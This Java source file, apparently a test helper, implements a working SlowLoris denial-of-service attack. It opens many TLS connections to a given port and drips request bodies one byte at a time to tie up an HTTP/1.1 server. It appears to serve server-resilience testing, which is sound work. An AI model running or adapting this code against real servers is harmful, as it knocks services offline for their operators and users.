package dev.keyring.testing.http;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.ThreadLocalRandom;
import java.util.concurrent.atomic.AtomicInteger;
import javax.net.ssl.SSLContext;

/**
 * A slow-body attack on an HTTP/1.1 server over TLS: {@code connections} connections each send a
 * request's headers announcing a large body, then one byte of it every {@code dribble}; a
 * connection the server answers or closes is opened again, until {@link #close()}. Connections open
 * spread over the first two seconds. One thread per connection; all of them stop on close.
 */
public final class SlowLoris implements AutoCloseable {
  private final SSLContext tls;
  private final int port;
  private final byte[] head;
  private final Duration dribble;
  private final Duration ramp;
  private final boolean reopen;
  private final List<Thread> threads = new ArrayList<>();
  private final List<RawHttp> open = new ArrayList<>();
  private volatile boolean running = true;
  private final AtomicInteger connects = new AtomicInteger();
  private final AtomicInteger answered = new AtomicInteger();
  private final AtomicInteger bytes = new AtomicInteger();
  private final AtomicInteger failedConnects = new AtomicInteger();

  private SlowLoris(
      SSLContext tls, int port, String head, Duration dribble, Duration ramp, boolean reopen) {
    this.tls = tls;
    this.port = port;
    this.head = head.getBytes(StandardCharsets.ISO_8859_1);
    this.dribble = dribble;
    this.ramp = ramp;
    this.reopen = reopen;
  }

  /**
   * Starts the attack: {@code head} is the request line and headers (with a {@code Content-Length}
   * well beyond what will be sent) and the blank line.
   */
  public static SlowLoris start(
      SSLContext tls, int port, int connections, String head, Duration dribble) {
    return start(tls, port, connections, head, dribble, Duration.ofSeconds(2), true);
  }

  /**
   * As {@link #start(SSLContext, int, int, String, Duration)}, the connections opening at random
   * over {@code ramp}; without {@code reopen}, a connection the server answers or closes is not
   * opened again.
   */
  public static SlowLoris start(
      SSLContext tls,
      int port,
      int connections,
      String head,
      Duration dribble,
      Duration ramp,
      boolean reopen) {
    SlowLoris s = new SlowLoris(tls, port, head, dribble, ramp, reopen);
    for (int i = 0; i < connections; i++) {
      Thread t = new Thread(s::loop, "slowloris-" + port + "-" + i);
      t.setDaemon(true);
      s.threads.add(t);
      t.start();
    }
    return s;
  }

  private void loop() {
    sleep(ThreadLocalRandom.current().nextLong(Math.max(1, ramp.toMillis())));
    while (running) {
      RawHttp c;
      try {
        c = RawHttp.open(tls, port, Duration.ofSeconds(10));
      } catch (IOException e) {
        failedConnects.incrementAndGet();
        sleep(200);
        continue;
      }
      connects.incrementAndGet();
      synchronized (open) {
        if (!running) {
          c.close();
          return;
        }
        open.add(c);
      }
      try {
        c.send(head);
        while (running) {
          // wait for the server for one dribble period; silence means send one more byte
          if (c.listen(dribble) != RawHttp.Heard.NOTHING) {
            answered.incrementAndGet();
            break;
          }
          c.send(new byte[] {'a'});
          bytes.incrementAndGet();
        }
      } catch (IOException e) {
        answered.incrementAndGet(); // closed by the server
      } finally {
        synchronized (open) {
          open.remove(c);
        }
        c.close();
      }
      if (!reopen) {
        return;
      }
    }
  }

  private static void sleep(long millis) {
    try {
      Thread.sleep(millis);
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
    }
  }

  /** Connections opened so far (first ones and reopened ones). */
  public int connects() {
    return connects.get();
  }

  /** Connections the server answered or closed. */
  public int answered() {
    return answered.get();
  }

  /** Body bytes dribbled in all. */
  public int bytesSent() {
    return bytes.get();
  }

  public int failedConnects() {
    return failedConnects.get();
  }

  @Override
  public void close() {
    running = false;
    synchronized (open) {
      open.forEach(RawHttp::close);
      open.clear();
    }
    for (Thread t : threads) {
      t.interrupt();
    }
    try {
      for (Thread t : threads) {
        t.join(15_000);
      }
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
    }
  }

  @Override
  public String toString() {
    return "slowloris on port "
        + port
        + ": "
        + threads.size()
        + " connections at once, "
        + connects()
        + " opened, "
        + answered()
        + " answered or closed by the server, "
        + failedConnects()
        + " connects failed, "
        + bytesSent()
        + " body bytes sent";
  }
}
